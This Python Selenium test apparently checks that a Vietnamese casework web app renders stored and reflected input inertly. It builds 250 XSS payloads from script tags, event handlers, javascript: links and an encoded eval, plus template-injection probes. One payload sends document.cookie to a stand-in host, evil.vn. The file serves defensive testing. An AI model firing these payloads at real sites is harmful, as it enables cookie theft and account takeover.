"""What citizens and officers write is shown as words: 250 ways to make a page run something, in every field that the desk
keeps, on every page that shows them. Nothing runs, nothing is asked of anybody else's server."""

from __future__ import annotations

import asyncio
import itertools
from collections.abc import Sequence

from selenium import webdriver
from selenium.common.exceptions import NoAlertPresentException

from api.access.permissions import Role
from api.casework import cases, exports, indicators, named, opening, views
from api.casework.attachments import Sent
from api.casework.cases import Acting
from api.casework.named import Kind
from api.models import Case, StaffAccount
from tests.api.casework import desk
from tests.journeys.people import Officer, Running, noise, surroundings

ACT = "window.__x=1"
OPENERS = ("", "\"'>", "</textarea>", "</title></style>", "--></script>")
TAGS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<body onload={}>", "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>parent.{}</script>'>", "<a href='javascript:{}'>bấm</a>",
)  # fmt: skip
ACTS = (
    ACT,
    f"'{ACT}'",
    f"alert(1);{ACT}",
    f"eval(atob('d2luZG93Ll9feD0x'));{ACT}",
    "fetch('//evil.vn/'+document.cookie)",
)
PAYLOADS = [opener + tag.format(act) for opener, tag, act in itertools.product(OPENERS, TAGS, ACTS)]
TEMPLATE = ("{{7*7}}", "{% raw %}", "${7*7}", "{{ config }}")
AT_ONCE = 10
ACCOUNT = "19034567890123"


async def write_everywhere(service: Running) -> dict[str, list[str]]:
    """Every payload as a citizen's words, answers and picture; some of them in every field that officers fill in."""
    around = surroundings(service)
    for number in range(0, len(PAYLOADS), AT_ONCE):
        words = " ".join(PAYLOADS[number : number + AT_ONCE])
        for again in range(2):
            sender = f"kẻ xấu {number} {again}"
            await desk.ask(around, sender, f"{words} STK {ACCOUNT}")
        picture = {f"ref {number}": Sent(b"\xff\xd8\xff", words)}
        await desk.report(around, sender, f"{words} STK {ACCOUNT}", pictures=picture, account=words, story=words)
    some = await desk.all_cases(around)
    wanted = named.read(Kind.ACCOUNT, ACCOUNT)
    assert wanted is not None
    async with around.database.writing() as session:
        who = await desk.person(session, around, "<b onclick=1>x", Role.OPERATOR)
        (await session.get_one(StaffAccount, who)).full_name = TEMPLATE[0]
        acting = Acting(around, who, around.clock())
        row = await indicators.find(session, around, wanted)
        assert row is not None
        case = await cases.get(session, some[0].id)
        for words in (*PAYLOADS[::25], *TEMPLATE):
            cases.note_step(session, acting, case, "note", text=words)
            await opening.from_appeal(session, acting, row, words)
            await exports.begin_letter(session, acting, case, "bank", f"ngân hàng {words}")
            await exports.ask(session, acting, "csv", "suspected", f"lý do là {words}")
        await indicators.propose(session, acting, row, indicators.Status.SUSPECTED, " ".join(PAYLOADS[:40]))
        await views.save(session, who, PAYLOADS[2][:60], "muc=1", around.clock())
    found = {"cases": [case.id for case in await _cases(around)], "indicator": [row.id]}
    await around.database.close()
    return found


async def _cases(around: object) -> Sequence[Case]:
    return await desk.all_cases(around)  # type: ignore[arg-type]


def is_quiet(browser: webdriver.Chrome) -> bool:
    """Nothing has run, nothing was tried that the page's policy had to stop."""
    try:
        said = browser.switch_to.alert.text
    except NoAlertPresentException:
        said = ""
    ran = browser.execute_script("return window.__x")
    return not said and ran is None and not noise(browser)


def test_words_stay_words(service: Running, browser: webdriver.Chrome) -> None:
    keys = asyncio.run(write_everywhere(service))
    assert len(PAYLOADS) == 250
    pages = {
        Role.LEAD: [
            "/can-bo/vu-viec", "/can-bo/vu-viec?trang-thai=all&loai=appeal", "/can-bo/dau-hieu",
            *(f"/can-bo/dau-hieu/{key}" for key in keys["indicator"]), "/can-bo/xuat", "/can-bo/so-lieu",
            "/can-bo/phan-anh", "/can-bo/luot-hoi", "/can-bo/chien-dich",
            *(f"/can-bo/vu-viec/{key}" for key in keys["cases"][:30]),
            *(f"/can-bo/vu-viec?tim={words}" for words in ("<script>window.__x=1</script>", "\"'><img src=x onerror=window.__x=1>")),
        ],
        Role.APPROVER: ["/can-bo/xuat", *(f"/can-bo/dau-hieu/{key}" for key in keys["indicator"])],
        Role.AUDITOR: ["/can-bo/nhat-ky", "/can-bo/nhat-ky?tim=<svg onload=window.__x=1>"],
    }  # fmt: skip
    for role, paths in pages.items():
        officer = Officer(service, browser, f"doc.{role.value}", role)
        officer.sits_down("/can-bo/toi")
        for path in paths:
            officer.opens(path)
            assert is_quiet(browser), path
            assert not browser.find_elements("css selector", "main script, main iframe, main video, main [onload]"), (
                path
            )
        if role is Role.LEAD:
            officer.opens("/can-bo/chien-dich")
            links = browser.find_elements("css selector", "main tbody a")
            for href in [str(link.get_attribute("href")) for link in links][:10]:
                officer.opens(href)
                assert is_quiet(browser), href
            uncover(officer, keys["cases"][1])
            assert is_quiet(browser)


def uncover(officer: Officer, case_id: str) -> None:
    """With everything that is hidden."""
    officer.opens(f"/can-bo/vu-viec/{case_id}")
    officer.writes("ly-do", f"xem xét {TAGS[1].format(ACT)}")
    officer.clicks("Hiện thông tin")
